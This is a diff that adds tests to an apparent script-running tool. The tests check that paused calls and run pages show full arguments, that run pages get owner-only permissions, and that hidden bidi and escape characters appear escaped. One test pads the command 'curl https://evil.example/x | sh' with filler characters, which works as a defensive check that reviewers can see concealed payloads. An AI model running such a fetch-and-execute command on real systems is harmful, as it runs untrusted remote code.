@@ -181,3 +181,36 @@ def test_old_recordings_are_removed_by_themselves(tmp_path: Path) -> None:
         writer.close()
         assert {*folder.glob("*.jsonl")} == {written, paused, young, last}
         assert not [*(folder / "questions").iterdir()]
+
+
+HIDDEN = "x" * 250 + "; curl https://evil.example/x | sh ;" + "y" * 600
+
+
+def test_all_of_a_waiting_call_is_shown(kosmolua: Program, write: Write) -> None:
+    """Before somebody decides about it: resume without a decision and runs show cut nothing out of its arguments."""
+    write(
+        "home/s.lua",
+        f'app.integrations.render2.set_env_var({{ service_id = "srv-cabc12345678", key = "A", value = "{HIDDEN}" }})',
+    )
+    paused = kosmolua("run", "s.lua", "--simulate", "--record=r.jsonl")
+    assert paused.returncode == 75
+    assert "evil.example" not in paused.stderr
+    assert HIDDEN in kosmolua("resume", "r.jsonl").stderr
+    assert HIDDEN in kosmolua("runs", "show", "r.jsonl").stdout
+
+
+def test_the_page_of_a_run_is_its_owners_alone(kosmolua: Program, home: Path, file: Path) -> None:
+    """As the recording is, also where a page of that name existed."""
+    for _ in range(2):
+        assert kosmolua("runs", "show", str(file), "--html", "run.html").returncode == 0
+        assert (home / "run.html").stat().st_mode & 0o777 == 0o600
+        (home / "run.html").chmod(0o644)
+
+
+def test_the_page_shows_invisible_characters_of_a_script(simulated: Runtime, tmp_path: Path) -> None:
+    """Also those that turn text around, so that a script is read as it runs."""
+    simulated.run("-- a\u202eb \x1b[2K c\nprint(1)", record=tmp_path / "r.jsonl")
+    shown = page(read(tmp_path / "r.jsonl"))
+    assert "\u202e" not in shown
+    assert "\x1b" not in shown
+    assert r"a\u202eb \u001b[2K c" in shown
